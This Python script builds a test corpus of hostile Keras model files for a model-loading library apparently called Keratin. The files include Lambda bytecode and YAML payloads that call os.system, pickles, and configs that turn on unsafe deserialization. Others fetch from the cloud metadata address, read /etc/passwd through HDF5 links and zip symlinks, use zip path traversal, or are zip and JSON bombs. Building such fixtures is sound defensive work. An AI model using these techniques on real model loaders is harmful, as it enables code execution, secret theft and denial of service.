#!/usr/bin/env python3
"""Writes files/, one hostile file for each known or possible attack by a model file.

Needs Python with h5py and NumPy, and Keras to confirm that the file they all start from is a good
one: run it in the environment of tests/golden/README.md. The files are part of the repository;
README.md beside this says what each one is and what Keratin answers to it.
"""

import base64
import io
import json
import marshal
import os
import pathlib
import pickle
import shutil
import stat
import struct
import zipfile
import zlib

import h5py
import numpy as np

FILES = pathlib.Path(__file__).resolve().parent / "files"
DATE = (1980, 1, 1, 0, 0, 0)
SECRET = "/etc/passwd"
COMMAND = "touch keratin_was_here"
CODE = base64.b64encode(marshal.dumps(
    compile(f"__import__('os').system({COMMAND!r})", "evil", "eval"))).decode()
PICKLE = pickle.dumps({"__reduce__": "os.system"}, protocol=0)
METADATA = {"keras_version": "3.15.1", "date_saved": "2026-01-01@00:00:00"}


# The good file: x → Dense "hidden" → Dense "out".

def envelope(class_name, config, module="keras.layers", **more):
    return {"module": module, "class_name": class_name, "config": config,
            "registered_name": None, "name": config["name"], **more}


def call(source, index=0):
    history = {"class_name": "__keras_tensor__",
               "config": {"shape": [None, 4], "dtype": "float32",
                          "keras_history": [source, index, 0]}}
    return {"args": [history], "kwargs": {}}


def dense(name, units, source, **more):
    return envelope("Dense", {"name": name, "units": units, "activation": "relu", **more},
                    inbound_nodes=[call(source)])


def input_layer(shape=(None, 4)):
    return envelope("InputLayer", {"name": "x", "batch_shape": list(shape), "dtype": "float32"},
                    inbound_nodes=[])


def functional(layers, output="out", index=0):
    return {"module": "keras.src.models.functional", "class_name": "Functional",
            "registered_name": "Functional",
            "config": {"name": "m", "trainable": True, "layers": layers,
                       "input_layers": [["x", 0, 0]], "output_layers": [[output, index, 0]]}}


def good_config():
    return functional([input_layer(), dense("hidden", 3, "x"), dense("out", 2, "hidden")])


def with_layer(layer):
    """The good model with another layer instead of the hidden one."""
    config = good_config()
    config["config"]["layers"][1] = {"name": "hidden", "inbound_nodes": [call("x")]} | layer
    return config


def with_hidden(**changes):
    config = good_config()
    config["config"]["layers"][1]["config"] |= changes
    return config


def numbers(*shape):
    return np.arange(np.prod(shape, dtype=int), dtype="float32").reshape(shape) / 10


def good_weights(file):
    for name, kernel in (("dense", numbers(4, 3)), ("dense_1", numbers(3, 2))):
        group = file.create_group(f"layers/{name}/vars")
        group["0"], group["1"] = kernel, numbers(kernel.shape[1])


def h5_bytes(fill):
    memory = io.BytesIO()
    with h5py.File(memory, "w") as file:
        fill(file)
    return memory.getvalue()


def lambda_weights(file):
    """The weights of the good model with a Lambda, which has none, instead of the hidden layer."""
    group = file.create_group("layers/dense/vars")
    group["0"], group["1"] = numbers(4, 2), numbers(2)


def weights_with(change):
    """The good weights after a change to the file."""
    def fill(file):
        good_weights(file)
        change(file)
    return h5_bytes(fill)


# Zip files.

def entry(name, mode=None):
    info = zipfile.ZipInfo(name, DATE)
    info.compress_type = zipfile.ZIP_DEFLATED
    if mode is not None:
        info.create_system, info.external_attr = 3, mode << 16
    return info


def zipped(members):
    memory = io.BytesIO()
    with zipfile.ZipFile(memory, "w") as zip:
        for name, contents in members:
            zip.writestr(name if isinstance(name, zipfile.ZipInfo) else entry(name), contents)
    return memory.getvalue()


def keras_members(config=None, weights=None, text=None):
    return [("metadata.json", json.dumps(METADATA)),
            ("config.json", text if text is not None else json.dumps(config or good_config())),
            ("model.weights.h5", weights if weights is not None else h5_bytes(good_weights))]


def keras(config=None, weights=None, text=None):
    return zipped(keras_members(config, weights, text))


def raw_zip(members):
    """A zip of members (name, method, crc, stored bytes, claimed size), which may be wrong."""
    local, central = b"", b""
    for name, method, crc, stored, size in members:
        facts = struct.pack("<HHHHHIIIHH", 20, 0, method, 0, 0x21, crc, len(stored), size,
                            len(name), 0)
        central += (b"PK\1\2" + struct.pack("<H", 20) + facts
                    + struct.pack("<HHHII", 0, 0, 0, 0, len(local)) + name)
        local += b"PK\3\4" + facts + name + stored
    end = struct.pack("<HHHHIIH", 0, 0, len(members), len(members), len(central), len(local), 0)
    return local + central + b"PK\5\6" + end


def raw_member(name, contents):
    data = contents.encode() if isinstance(contents, str) else contents
    return (name.encode(), 0, zlib.crc32(data), data, len(data))


def raw_keras(*more):
    return raw_zip([raw_member(n, c) for n, c in keras_members()] + list(more))


def deflated_zeros(size):
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece, out = bytes(1 << 20), b""
    for _ in range(size >> 20):
        out += packer.compress(piece)
    return out + packer.flush()


# Configs.

def lambda_layer(function, **more):
    return envelope("Lambda", {"name": "hidden", "function": function, **more})


BYTECODE = {"class_name": "__lambda__", "config": {"code": CODE, "defaults": None, "closure": None}}


def python_function(module, name):
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def custom(class_name, module="keras.layers", **config):
    return {"module": module, "class_name": class_name, "registered_name": None,
            "config": {"name": "hidden", **config}}


def code_files():
    yield "yaml.keras", keras(text=f"!!python/object/apply:os.system [{COMMAND!r}]")
    yield "lambda_bytecode.keras", keras(
        with_layer(lambda_layer(BYTECODE)), h5_bytes(lambda_weights))
    yield "lambda_keras2.keras", keras(with_layer(lambda_layer(
        [CODE, None, None], function_type="lambda", output_shape=[4], output_shape_type="raw")))
    yield "lambda_output_shape.keras", keras(with_layer(lambda_layer(
        python_function("builtins", "f"), output_shape=BYTECODE, mask=BYTECODE)))
    yield "lambda_get_file.keras", keras(with_layer(lambda_layer(
        python_function("keras.utils", "get_file"),
        arguments={"fname": "x", "origin": "http://127.0.0.1:1/x", "extract": True})))
    unsafe = envelope("Lambda", {"name": "first", "function": python_function(
        "keras.config", "enable_unsafe_deserialization")}, inbound_nodes=[call("x")])
    config = with_layer(lambda_layer(BYTECODE))
    config["config"]["layers"].insert(1, unsafe)
    yield "enable_unsafe_lambda.keras", keras(config)
    config = with_layer(custom("enable_unsafe_deserialization", "keras.config"))
    yield "enable_unsafe_class.keras", keras(config)
    config = with_layer(lambda_layer(BYTECODE))
    config["safe_mode"] = config["config"]["safe_mode"] = False
    yield "safe_mode_in_config.keras", keras(config)
    yield "any_function.keras", keras(with_layer(
        {"module": "os", "class_name": "function", "config": "system", "registered_name": "system",
         "name": "hidden"}))
    yield "any_class.keras", keras(with_layer(custom("system", "os", command=COMMAND)))
    yield "any_class_of_known_name.keras", keras(with_layer(
        custom("Dense", "evil.layers", units=3)))
    yield "registered_name.keras", keras(with_layer(
        custom("Dense", "builtins", units=3) | {"registered_name": "evil>Dense"}))
    yield "initializer_class.keras", keras(with_hidden(kernel_initializer={
        "module": "os", "class_name": "system", "config": {"command": COMMAND},
        "registered_name": None}))
    yield "activation_function.keras", keras(with_hidden(
        activation=python_function("builtins", "eval")))
    config = good_config()
    config["config"]["layers"][1]["inbound_nodes"][0]["kwargs"] = {
        "mask": python_function("os", "system")}
    yield "function_in_call.keras", keras(config)
    config = good_config()
    config["compile_config"] = {"optimizer": "sgd", "loss": python_function("os", "system")}
    yield "loss_function.keras", keras(config)
    config = good_config()
    config["compile_config"] = {"optimizer": custom("system", "os"), "loss": "mse"}
    yield "optimizer_class.keras", keras(config)
    for name in ("get_file", "load_model", "unpack_x_y_sample_weight"):
        module = "keras.saving" if name == "load_model" else "keras.utils"
        yield f"api_{name}.keras", keras(with_layer(custom(name, module, filepath=SECRET)))
    yield "torch_module.keras", keras(with_layer(custom(
        "TorchModuleWrapper", module_bytes=base64.b64encode(PICKLE).decode())))
    yield "tfsm_layer.keras", keras(with_layer(custom(
        "TFSMLayer", filepath="/tmp/evil_saved_model", call_endpoint="serve")))
    yield "vocabulary_path.keras", keras(with_layer(custom("StringLookup", vocabulary=SECRET)))
    yield "vocabulary_url.keras", keras(with_layer(custom(
        "IntegerLookup", vocabulary="http://169.254.169.254/latest/meta-data/")))
    yield "vectorization_path.keras", keras(with_layer(custom(
        "TextVectorization", vocabulary=SECRET)))
    pickled = io.BytesIO()
    np.savez(pickled, model=np.array({"layers": {}}, dtype=object))
    yield "pickled_weights.keras", zipped(
        keras_members()[:2] + [("model.weights.npz", pickled.getvalue())])


def json_files():
    yield "nested_brackets.keras", keras(text="[" * 100_000)
    nested = '{"class_name":"Sequential","config":{"name":"m","layers":['
    yield "nested_models_100k.keras", keras(text=nested * 100_000 + "]}}" * 100_000)
    yield "nested_models_150.keras", keras(text=nested * 150 + "]}}" * 150)
    inner = functional([input_layer(), dense("out", 4, "x")])
    for _ in range(100):  # a model inside is counted from one
        inner = inner | {"name": "out", "inbound_nodes": [call("x")]}
        inner = functional([input_layer(), inner], index=1)
    yield "nested_functional.keras", keras(inner)
    inner = {"class_name": "Dense", "config": {"name": "hidden", "units": 4}}
    for _ in range(5):
        inner = {"class_name": "TimeDistributed", "config": {"name": "hidden", "layer": inner}}
    config = with_layer(inner)
    config["config"]["layers"][0] = input_layer((None, 2, 2, 2, 2, 2, 2))
    yield "nested_wrappers.keras", keras(config)
    inner = {"class_name": "LSTM", "config": {"name": "hidden", "units": 3}}
    for _ in range(200):
        inner = {"class_name": "Bidirectional", "config": {"name": "hidden", "layer": inner}}
    yield "nested_bidirectional.keras", keras(with_layer(inner))
    good = json.dumps(good_config())
    yield "huge_number.keras", keras(text=good.replace('"units": 3', '"units": 1e99999'))
    yield "long_number.keras", keras(
        text=good.replace('"units": 3', '"units": ' + "9" * 1_000_000))
    yield "real_units.keras", keras(with_hidden(units=1e300))
    yield "nan_units.keras", keras(text=good.replace('"units": 3', '"units": NaN'))
    yield "negative_units.keras", keras(with_hidden(units=-(2**63)))
    yield "duplicate_keys.keras", keras(text=good.replace('"units": 3', '"units": 3, "units": 4'))
    yield "nul_in_json.keras", keras(text=good.replace('"units"', '"un\0its"'))
    yield "lone_surrogate.keras", keras(text=good.replace('"hidden"', '"\\ud800"'))
    yield "json_bomb.keras", keras(text="[" + "[]," * (12 << 20) + "[]]")
    keys = {f"k{i}": 0 for i in range(50_000)}
    yield "many_keys.keras", keras(with_hidden(kernel_initializer={
        "class_name": "Zeros", "config": keys}))
    yield "many_unknown_keys.keras", keras(with_hidden(**{f"k{i}": 0 for i in range(20_000)}))


def graph_files():
    config = good_config()
    config["config"]["layers"][1]["inbound_nodes"] = [call("out")]
    yield "cycle.keras", keras(config)
    config = good_config()
    config["config"]["layers"][1]["inbound_nodes"] = [call("hidden")]
    yield "self_loop.keras", keras(config)
    config = good_config()
    config["config"]["layers"][1]["inbound_nodes"] = [call("x", 2**62)]
    yield "call_index.keras", keras(config)
    config = good_config()
    config["config"]["output_layers"] = [["out", 0, -1]]
    yield "output_index.keras", keras(config)
    config = good_config()
    config["config"]["layers"][2]["name"] = "hidden"
    yield "same_name.keras", keras(config)
    layers, last = [input_layer()], "x"
    for i in range(30_000):
        layers.append({"class_name": "Activation", "name": f"a{i}",
                       "config": {"name": f"a{i}", "activation": "relu"},
                       "inbound_nodes": [[[last, 0, 0]]]})
        last = f"a{i}"
    yield "long_chain.keras", keras(functional(layers[:1] + layers[:0:-1], last),
                                    h5_bytes(lambda file: file.create_group("layers")))
    layers, last = [input_layer((1, 4))], "x"
    for i in range(70):
        layers.append({"class_name": "Concatenate", "name": f"c{i}", "config": {"name": f"c{i}"},
                       "inbound_nodes": [[[last, 0, 0], [last, 0, 0]]]})
        last = f"c{i}"
    yield "doubling.keras", keras(functional(layers, last))
    yield "huge_units.keras", keras(with_hidden(units=1 << 40))
    yield "overflowing_units.keras", keras(with_hidden(units=2**62))
    config = good_config()
    config["config"]["layers"][0] = input_layer((None, 2**40, 2**40))
    yield "huge_input.keras", keras(config)
    yield "many_axes.keras", keras(with_layer(envelope(
        "Reshape", {"name": "hidden", "target_shape": [1] * 100_000})))
    yield "many_permuted.keras", keras(with_layer(envelope(
        "Permute", {"name": "hidden", "dims": list(range(1, 100_001))})))
    yield "huge_repeat.keras", keras(with_layer(envelope(
        "RepeatVector", {"name": "hidden", "n": 2**60})))
    yield "huge_embedding.keras", keras(with_layer(envelope(
        "Embedding", {"name": "hidden", "input_dim": 2**40, "output_dim": 2**20})))
    cells = [{"class_name": "LSTMCell", "config": {"name": "c", "units": 2**40}}] * 3
    config = with_layer(envelope("RNN", {
        "name": "hidden", "cell": {"class_name": "StackedRNNCells",
                                   "config": {"name": "s", "cells": cells}}}))
    config["config"]["layers"][0] = input_layer((None, 5, 4))
    yield "huge_cells.keras", keras(config)
    for name, kind, size in (("gates_of_lstm", "LSTM", 2**61), ("gates_of_gru", "GRU", 2**62)):
        config = with_layer(envelope(kind, {"name": "hidden", "units": size}))
        config["config"]["layers"][0] = input_layer((None, 5, 4))
        yield f"overflowing_{name}.keras", keras(config)
    for kind in ("DepthwiseConv1D", "SeparableConv1D"):
        config = with_layer(envelope(kind, {"name": "hidden", "kernel_size": [3], "filters": 2,
                                            "depth_multiplier": 2**53}))
        config["config"]["layers"][0] = input_layer((None, 7, 2**40))
        yield f"overflowing_{kind}.keras".lower(), keras(config)
    config = good_config()
    config["config"]["layers"][1] |= {"shared_object_id": 7}
    config["config"]["layers"][2] |= {"shared_object_id": 7}
    yield "shared_object_id.keras", keras(config)
    config = good_config()
    config["compile_config"] = {
        "optimizer": {"class_name": "Adam", "config": {"learning_rate": 0.1}}, "loss": "mse",
        "metrics": [{"class_name": "AUC", "config": {"num_thresholds": 2**40}}]}
    yield "huge_metric.keras", keras(config)


# Weights in HDF5.

def replaced(path, make):
    def change(file):
        del file[path]
        make(file, path)
    return weights_with(change)


def huge(file, path):
    file.create_dataset(path, shape=(2**40, 3), dtype="float32", chunks=(1024, 3))


def huge_contiguous(file, path):
    file.create_dataset(path, shape=(2**40, 3), dtype="float32")


def bomb(file, path):
    file.create_dataset(path, data=np.zeros((4, 1 << 20), "float32"), chunks=(4, 1 << 20),
                        compression="gzip", compression_opts=9)


def unwritten(file, path):
    file.create_dataset(path, shape=(4, 3), dtype="float32")


def external_storage(file, path):
    file.create_dataset(path, shape=(4, 3), dtype="float32", external=[(SECRET, 0, 48)])


def external_link(file, path):
    file[path] = h5py.ExternalLink(SECRET, "/")


def soft_link(file, path):
    file[path] = h5py.SoftLink("/layers/dense_1/vars/0")


def virtual(file, path):
    layout = h5py.VirtualLayout(shape=(4, 3), dtype="float32")
    layout[:] = h5py.VirtualSource(SECRET, "data", shape=(4, 3))
    file.create_virtual_dataset(path, layout)


def compound(file, path):
    file[path] = np.zeros((4, 3), [("a", "f4"), ("b", "i4")])


def unknown_filter(file, path):
    file.create_dataset(path, data=numbers(4, 3), chunks=(4, 3), compression="lzf")


def group_loop(file):
    file["layers/dense/again"] = file["layers"]


def many_weights(file, path):
    file[path] = numbers(4, 3)
    for i in range(2, 50):
        file[f"layers/dense/vars/{i}"] = numbers(1)


def hdf5_files():
    path_of_kernel = "layers/dense/vars/0"
    for make in (huge, huge_contiguous, bomb, unwritten, external_storage, external_link, soft_link,
                 virtual, compound, unknown_filter, many_weights):
        yield f"h5_{make.__name__}.keras", keras(weights=replaced(path_of_kernel, make))
    yield "h5_external_group.keras", keras(weights=replaced("layers/dense/vars", external_link))
    yield "h5_group_loop.keras", keras(weights=weights_with(group_loop))
    yield "h5_shape.keras", keras(weights=replaced(
        path_of_kernel, lambda file, path: file.__setitem__(path, numbers(3, 4))))
    yield "h5_text.keras", keras(weights=replaced(
        path_of_kernel, lambda file, path: file.__setitem__(path, "kernel")))
    yield "h5_cut.keras", keras(weights=h5_bytes(good_weights)[:-400])
    yield "h5_is_text.keras", keras(weights=b"root:x:0:0:root:/root:/bin/bash\n")
    deep = h5_bytes(lambda file: file.create_group("/".join(["g"] * 3000)))
    yield "h5_deep.keras", keras(weights=deep)


# Legacy files: configs and weights in one HDF5 file.

GOOD_KERNELS = {"hidden": numbers(4, 3), "out": numbers(3, 2)}


def legacy(config, change=None, layers=None, kernels=GOOD_KERNELS):
    def fill(file):
        file.attrs["keras_version"], file.attrs["backend"] = "2.15.0", "tensorflow"
        file.attrs["model_config"] = config if isinstance(config, str) else json.dumps(config)
        weights = file.create_group("model_weights")
        for name, kernel in kernels.items():
            group = weights.create_group(name)
            group.attrs["weight_names"] = [b"kernel:0", b"bias:0"]
            group["kernel:0"], group["bias:0"] = kernel, numbers(kernel.shape[1])
        weights.attrs["layer_names"] = layers or [name.encode() for name in kernels]
        if change is not None:
            change(file)
    return h5_bytes(fill)


def legacy_files():
    yield "legacy_good.h5", legacy(good_config())
    yield "legacy_lambda.h5", legacy(with_layer(lambda_layer(
        [CODE, None, None], function_type="lambda")), kernels={"out": numbers(4, 2)})
    yield "legacy_any_class.h5", legacy(with_layer(custom("system", "os", command=COMMAND)))
    yield "legacy_vocabulary.h5", legacy(with_layer(custom("StringLookup", vocabulary=SECRET)))
    yield "legacy_nested.h5", legacy("[" * 50_000)

    def link(target):
        def change(file):
            del file["model_weights/hidden/kernel:0"]
            file["model_weights/hidden/kernel:0"] = target
        return change
    yield "legacy_external_link.h5", legacy(
        good_config(), link(h5py.ExternalLink(SECRET, "/")))
    yield "legacy_soft_link.h5", legacy(
        good_config(), link(h5py.SoftLink("/model_weights/out/kernel:0")))

    def names(file):
        file["model_weights/hidden"].attrs["weight_names"] = [b"../out/kernel:0", b"bias:0"]
    yield "legacy_path_in_name.h5", legacy(good_config(), names)
    yield "legacy_layer_names.h5", legacy(good_config(), layers=[b"hidden", b"../../etc"])

    def shape(file):
        del file["model_weights/hidden/kernel:0"]
        huge(file, "model_weights/hidden/kernel:0")
    yield "legacy_huge.h5", legacy(good_config(), shape)


# Damaged zips.

def zip_files():
    members = keras_members()
    for name, title in (("../escaped.json", "parent"), ("/tmp/escaped.json", "absolute"),
                        ("C:\\escaped.json", "drive"), ("assets\\..\\x", "backslash"),
                        ("assets/../../x/vocabulary.txt", "assets")):
        yield f"zip_{title}.keras", raw_keras(raw_member(name, "x"))
    link = stat.S_IFLNK | 0o777
    yield "zip_symlink.keras", zipped(members[:2] + [(entry("model.weights.h5", link), SECRET)])
    yield "zip_symlink_config.keras", zipped(
        [members[0], (entry("config.json", link), SECRET), members[2]])
    yield "zip_twice.keras", raw_keras(raw_member("config.json", "{}"))
    yield "zip_claimed_size.keras", raw_keras((b"assets/x", 8, 0, b"\3\0", 0xfffffffe))
    yield "zip_bomb.keras", raw_keras(
        (b"assets/x", 8, 0, deflated_zeros(300 << 20), 300 << 20))
    many = raw_keras()
    yield "zip_count.keras", many[:-14] + struct.pack("<HH", 65535, 65535) + many[-10:]
    yield "zip_checksum.keras", raw_zip(
        [raw_member(n, c) if n != "config.json" else (b"config.json", 0, 1, c.encode(), len(c))
         for n, c in members])
    whole = raw_keras()
    overlapping = bytearray(raw_keras(raw_member("assets/a", "x" * 40), raw_member("assets/b", "y")))
    second = overlapping.rindex(b"PK\1\2")
    first = overlapping.rindex(b"PK\1\2", 0, second)
    at = struct.unpack_from("<I", overlapping, first + 42)[0]
    inner = b"PK\3\4" + overlapping[second + 6:second + 32] + b"assets/b"
    overlapping[at + 38:at + 38 + len(inner)] = inner
    struct.pack_into("<I", overlapping, second + 42, at + 38)
    yield "zip_overlap.keras", bytes(overlapping)
    encrypted = bytearray(whole)
    for sign, flags in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        encrypted[encrypted.index(sign) + flags] |= 1
    yield "zip_encrypted.keras", bytes(encrypted)
    yield "zip_cut.keras", whole[:-200]
    yield "zip_method.keras", raw_keras((b"assets/x", 99, 0, b"x", 1))
    yield "not_a_zip.keras", PICKLE * 3


# Vocabularies: in assets/, or in a config.

def on_input(class_name, dtype="string", shape=(None, 1), **config):
    """A model of one layer, which is called on strings."""
    x = envelope("InputLayer", {"name": "x", "batch_shape": list(shape), "dtype": dtype},
                 inbound_nodes=[])
    history = {"class_name": "__keras_tensor__",
               "config": {"shape": list(shape), "dtype": dtype, "keras_history": ["x", 0, 0]}}
    layer = envelope(class_name, {"name": "hidden", **config},
                     inbound_nodes=[{"args": [history], "kwargs": {}}])
    return functional([x, layer], "hidden")


def lookup_members(kind="string", fill=None, **config):
    """The members of a model with a lookup. `fill` adds to its weights, which are none."""
    def weights(file):
        group = file.create_group(f"layers/{kind}_lookup/vars")
        if fill is not None:
            fill(group)
    config = on_input(f"{kind.title()}Lookup", dtype="string" if kind == "string" else "int64",
                      **config)
    return keras_members(config, h5_bytes(weights))


def asset_of(kind, contents, mode=None):
    return (entry(f"assets/layers/{kind}_lookup/vocabulary.txt", mode), contents)


def lookup(contents, kind="string", **more):
    return zipped(lookup_members(kind, **more) + [asset_of(kind, contents)])


def asset_files():
    words = "[UNK]\na\nb"
    yield "asset_good.keras", lookup(words)
    yield "asset_link.keras", zipped(
        lookup_members("integer") + [asset_of("integer", SECRET, stat.S_IFLNK | 0o777)])
    name, contents = asset_of("string", words)
    yield "asset_twice.keras", raw_zip(
        [raw_member(n, c) for n, c in lookup_members()] + [raw_member(name.filename, contents)] * 2)
    yield "asset_missing.keras", zipped(lookup_members() + [("assets/x", "")])
    yield "asset_of_no_layer.keras", zipped(
        keras_members() + [("assets/layers/dense/vocabulary.txt", words)])
    yield "asset_bomb.keras", lookup("a" * (17 << 20))
    yield "asset_equal_lines.keras", lookup("a\n" * 1_000_000)
    yield "asset_empty_lines.keras", lookup("\n" * (16 << 20))
    yield "asset_many_lines.keras", lookup("\n".join(map(str, range(20_000))), max_tokens=10)
    yield "asset_of_another_size.keras", lookup(
        words, vocabulary_size=7, output_mode="one_hot")
    yield "asset_reserved.keras", lookup("a\n[UNK]", mask_token="a", num_oov_indices=2)
    yield "asset_bytes.keras", lookup(b"\xff\xfe\na\0b\n\xc3")
    yield "asset_nul.keras", lookup("-1\n1\0002", "integer")
    yield "asset_beyond_int64.keras", lookup("-1\n9223372036854775808", "integer")
    counted = {"output_mode": "tf_idf", "vocabulary_size": 3}
    yield "asset_without_idf.keras", lookup(words, **counted)

    def idf(*shape, **more):
        return lambda group: group.create_dataset("idf_weights", shape, "float32", **more)
    yield "asset_idf_length.keras", lookup(words, **counted, fill=idf(1, data=[0.5]))
    yield "asset_idf_axes.keras", lookup(words, **counted, fill=idf(3, 1, data=[[0.5]] * 3))
    yield "asset_idf_huge.keras", lookup(words, **counted, fill=idf(2**40, chunks=(1024,)))
    weighted = {"vocabulary": ["a", "b"], "output_mode": "tf_idf"}
    yield "idf_length.keras", zipped(lookup_members(**weighted, idf_weights=[0.5]))
    yield "idf_of_file.keras", zipped(lookup_members(
        **weighted, idf_weights=[0.5, 1], fill=idf(4, data=[0.5] * 4)))
    yield "vocabulary_mixed.keras", zipped(lookup_members(vocabulary=["a", 1]))
    yield "vocabulary_numpy.keras", zipped(lookup_members("integer", vocabulary={
        "class_name": "__numpy__", "config": {"value": [1e300, 7], "dtype": "int64"}}))
    yield "vocabulary_size.keras", zipped(lookup_members(
        vocabulary_size=2**62, output_mode="one_hot"))
    yield "oov_bytes.keras", zipped(lookup_members(
        oov_token="x" * 1024, num_oov_indices=1 << 24))
    yield "vectorization_function.keras", keras(on_input(
        "TextVectorization", vocabulary=["a"], standardize=BYTECODE))
    yield "vectorization_ngrams.keras", keras(on_input(
        "TextVectorization", vocabulary=["a"], ngrams=2**40))
    yield "vectorization_length.keras", keras(on_input(
        "TextVectorization", vocabulary=["a"], output_sequence_length=2**62))


def size_files():
    """Layers with sizes that would fill the memory."""
    def on_image(title, class_name, shape=(None, 4, 4, 3), **config):
        return f"{title}.keras", keras(on_input(class_name, "float32", shape, **config))
    inner = {"class_name": "Dense", "config": {"name": "d", "units": 2}}
    yield on_image("huge_lora", "Dense", (None, 4), units=3, lora_rank=2**62)
    yield on_image("huge_iterations", "SpectralNormalization", (None, 4), layer=inner,
                   power_iterations=10**9)
    yield on_image("huge_conv_lstm", "ConvLSTM1D", (None, 3, 8, 2), filters=2**61, kernel_size=[3])
    yield on_image("huge_pooling", "AdaptiveMaxPooling2D", output_size=[2**40, 2**40])
    yield on_image("huge_resizing", "Resizing", height=10**9, width=10**9)
    yield on_image("huge_crop", "RandomCrop", height=2**62, width=1)
    yield on_image("huge_blur", "RandomGaussianBlur", kernel_size=[2**40 + 1, 3], factor=1.0)
    yield on_image("huge_boxes", "MaxNumBoundingBoxes", max_number=2**62)
    yield on_image("huge_tiles", "ContrastLimitedAdaptiveHistogramEqualization",
                   tile_grid_size=[2**40, 2**40])
    yield on_image("huge_spectrogram", "STFTSpectrogram", (None, 64, 1), fft_length=2**40,
                   frame_length=2**40)
    yield on_image("huge_mel_bins", "MelSpectrogram", (None, 64), fft_length=2**40,
                   num_mel_bins=2**40)
    yield on_image("huge_tokens", "CategoryEncoding", (None, 4), num_tokens=2**62)
    yield "huge_bins.keras", keras(on_input("Hashing", num_bins=2**62, output_mode="one_hot"))
    yield on_image("nan_factor", "RandomElasticTransform", factor=float("nan"))
    yield on_image("overflowing_dilation", "Conv2D", filters=2, kernel_size=[3, 3],
                   dilation_rate=[2**62, 1])
    yield on_image("overflowing_upsampling", "UpSampling2D", size=[2**62, 2],
                   interpolation="bilinear")
    for title, kind, more in (("wrapper", "SpectralNormalization", {"layer": inner}),
                              ("reshape", "Reshape", {"target_shape": [3, 4]})):
        yield on_image(f"no_axes_{title}", kind, (), **more)
    yield "no_axes_text.keras", keras(on_input(
        "TextVectorization", shape=(), vocabulary=["a"], split=None))
    pipeline = inner
    for _ in range(120):
        pipeline = {"class_name": "Pipeline", "config": {"name": "hidden", "layers": [pipeline]}}
    yield on_image("nested_pipelines", "Pipeline", (None, 4), layers=[pipeline])


# Files of weights alone.

def npy(descr, shape, data=b"", header=None):
    text = header or f"{{'descr': {descr!r}, 'fortran_order': False, 'shape': {shape!r}, }}"
    text += " " * (-(len(text) + 11) % 64) + "\n"
    return b"\x93NUMPY\1\0" + struct.pack("<H", len(text)) + text.encode() + data


def weights_files():
    yield "pickle.npz", zipped([("layers/dense/vars/0.npy", npy("|O", (1,), PICKLE))])
    yield "huge.npz", zipped([("layers/dense/vars/0.npy", npy("<f4", (2**40, 2**30)))])
    yield "header.npz", zipped([("layers/dense/vars/0.npy", npy(
        "", (), header="__import__('os').system('" + COMMAND + "')"))])
    yield "strings.npz", zipped([("layers/dense/vars/0.npy", npy("|S1", (4, 3), b"0" * 12)),
                                 ("layers/dense/vars/1.npy", npy("<f4", (3,), bytes(12))),
                                 ("layers/dense_1/vars/0.npy", npy("<f4", (3, 2), bytes(24))),
                                 ("layers/dense_1/vars/1.npy", npy("<f4", (2,), bytes(8)))])
    yield "string_width.npz", zipped([("layers/dense/vars/0.npy", npy("<U" + str(2**62), (4, 3)))])
    yield "no_character.npz", zipped([("layers/dense/vars/0.npy", npy(
        "<U1", (1,), struct.pack("<I", 0x110000)))])
    yield "bomb.npz", raw_zip([(b"layers/dense/vars/0.npy", 8, 0, b"\3\0", 0xfffffffe)])

    def safetensors(header, data=b"", size=None):
        text = header if isinstance(header, bytes) else json.dumps(header).encode()
        return struct.pack("<Q", len(text) if size is None else size) + text + data
    tensor = {"dtype": "F32", "shape": [4, 3], "data_offsets": [0, 48]}
    name = "layers/dense/vars/0"
    yield "header_size.safetensors", safetensors({name: tensor}, bytes(48), 2**63)
    yield "header_nested.safetensors", safetensors(b"[" * 100_000)
    yield "huge_shape.safetensors", safetensors(
        {name: tensor | {"shape": [2**40, 2**40]}}, bytes(48))
    yield "offsets.safetensors", safetensors(
        {name: tensor | {"data_offsets": [0, 2**62]}}, bytes(48))
    yield "overlap.safetensors", safetensors({name: tensor, "other": tensor}, bytes(48))
    for title, shard in (("parent", "../files/soft_link.weights.h5"), ("absolute", SECRET),
                         ("missing", "nowhere.weights.h5"), ("link", "linked.weights.h5")):
        yield f"shard_{title}.weights.json", json.dumps(
            {"metadata": {"total_size": 1}, "weight_map": {"/layers/dense/vars": shard}}).encode()
    yield "soft_link.weights.h5", replaced("layers/dense/vars/0", soft_link)
    yield "external_storage.weights.h5", replaced("layers/dense/vars/0", external_storage)
    yield "huge.weights.h5", replaced("layers/dense/vars/0", huge)


def folder_files():
    """Models in folders: two with links to another folder, and one with a vocabulary."""
    folder = FILES / "folder_link"
    folder.mkdir()
    (folder / "config.json").write_text(json.dumps(good_config()))
    (folder / "metadata.json").write_text(json.dumps(METADATA))
    os.symlink("../soft_link.weights.h5", folder / "model.weights.h5")
    os.symlink("folder_link/config.json", FILES / "linked.weights.h5")
    for title in ("good", "link"):
        folder = FILES / f"folder_asset_{title}"
        folder.mkdir()
        for name, contents in lookup_members():
            (folder / name).write_bytes(
                contents if isinstance(contents, bytes) else contents.encode())
        if title == "link":
            os.symlink("../folder_asset_good/assets", folder / "assets")
        else:
            name, contents = asset_of("string", "[UNK]\na\nb")
            path = folder / name.filename
            path.parent.mkdir(parents=True)
            path.write_text(contents)


def confirm_with_keras():
    import keras as real
    model = real.models.load_model(FILES / "good.keras")
    assert np.array_equal(model.get_layer("out").kernel, numbers(3, 2))
    model = real.models.load_model(FILES / "asset_good.keras")
    assert model.get_layer("hidden").get_vocabulary() == ["[UNK]", "a", "b"]


def main():
    shutil.rmtree(FILES, ignore_errors=True)
    FILES.mkdir()
    (FILES / "good.keras").write_bytes(keras())
    for kind in (code_files, json_files, graph_files, hdf5_files, legacy_files, zip_files,
                 asset_files, size_files, weights_files):
        for name, contents in kind():
            assert not (FILES / name).exists(), name
            (FILES / name).write_bytes(contents)
    folder_files()
    confirm_with_keras()


if __name__ == "__main__":
    main()
